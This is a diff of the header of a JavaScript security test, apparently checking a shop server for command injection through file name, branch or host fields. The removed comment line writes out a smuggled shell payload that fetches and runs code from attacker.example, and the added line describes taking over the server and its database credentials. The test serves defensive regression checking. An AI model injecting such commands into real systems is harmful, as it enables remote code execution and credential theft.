@@ -1,4 +1,4 @@
-// AS-44QN6ZE8: put `; curl attacker.example | sh` into a file name, branch or host field that the server pastes into a shell command
+// AS-44QN6ZE8: take over the shop server and its database credentials by putting shell commands into a file name, branch or host field that the server pastes into a command line
 // Fails while the code is vulnerable, passes once the fix is in. Start the app, then run it with
 // BASE_URL pointing at it (default http://localhost:3000).
 const { test } = require('node:test');
